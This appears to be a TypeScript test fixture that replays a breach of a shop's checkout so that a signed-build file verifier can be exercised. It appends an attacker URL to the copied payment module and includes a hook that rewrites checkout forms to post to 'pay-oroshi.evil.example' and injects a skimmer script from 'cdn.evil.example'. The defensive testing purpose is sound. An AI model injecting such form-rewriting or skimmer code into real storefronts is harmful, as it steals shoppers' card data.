import { generateKeyPairSync } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { FileSetSpec } from '../../platform/build-manifest/build-files.ts';
import { createBuildManifest, PROJECT_ROOT, writeBuildManifest } from '../../platform/build-manifest/build-manifest.ts';
import type { Database } from '../../platform/db/database.ts';
import type { RouteModule } from '../../platform/http/app.ts';
import { runFilePass } from '../../verifier/verifier-pass.ts';
import { newVerifierRecordState, type RecordedPass, recordVerifierPass } from '../../verifier/verifier-record.ts';

/**
 * What the attacker of BRIEF's breach did, and nothing more: change the payment module on the
 * server's disk, so the restarted process sends a checkout whose card step posts to a look-alike
 * host and loads a skimmer. The replay never calls the security-event API: the server's files are
 * a signed copy of src/ and static/ (the working tree is never touched) that the real verifier
 * pass checks, and what the changed process sends comes from a second app instance on the same
 * database whose checkout HTML is rewritten the way the changed module would write it.
 */

export const ATTACKER_HOST = 'pay-oroshi.evil.example';
const SKIMMER = `<script src="https://cdn.evil.example/skim.js"></script>`;

export class ServerFiles {
  private readonly keys = generateKeyPairSync('ed25519');
  private readonly manifestPath: string;
  private readonly state = newVerifierRecordState('incident-replay', 30);
  readonly spec: FileSetSpec = {
    trees: [
      { dir: 'src', include: (name) => /\.tsx?$/.test(name) && !/\.test\.tsx?$/.test(name) },
      { dir: 'static', include: () => true },
    ],
    files: [],
  };

  constructor(readonly root: string) {
    for (const dir of ['src', 'static']) fs.cpSync(path.join(PROJECT_ROOT, dir), path.join(root, dir), { recursive: true });
    this.manifestPath = path.join(root, 'build-manifest.json');
    writeBuildManifest(this.manifestPath, createBuildManifest({ root, privateKey: this.keys.privateKey, appEnv: 'development', spec: this.spec }));
  }

  /** The attacker's edit of the payment module on disk. */
  tamperPaymentModule(): string {
    const rel = 'src/domains/payments/card-payment.service.ts';
    const file = path.join(this.root, rel);
    fs.appendFileSync(file, `\n// injected\nexport const __collect = 'https://${ATTACKER_HOST}/checkout';\n`);
    return rel;
  }

  /** One pass of the verifier over these files, as its process runs it (files, then stored texts). */
  verify(database: Database): Promise<RecordedPass> {
    return recordVerifierPass(database, runFilePass({ root: this.root, manifestPath: this.manifestPath, publicKey: this.keys.publicKey, spec: this.spec }), this.state);
  }
}

/** The restarted process after the tamper: the shop's checkout posts to the attacker and loads the skimmer. */
export function tamperedCheckout(shopSlug: string): RouteModule {
  return (instance) => {
    instance.addHook('onSend', async (request, reply, payload) => {
      const url = request.url.split('?')[0] ?? '';
      if (typeof payload !== 'string' || !String(reply.getHeader('content-type') ?? '').includes('text/html')) return payload;
      if (!url.startsWith(`/s/${shopSlug}/checkout`)) return payload;
      return payload.replace(/action="([^"]*\/checkout(?:\/place)?)"/g, `action="https://${ATTACKER_HOST}$1"`).replace('</body>', `${SKIMMER}</body>`);
    });
  };
}
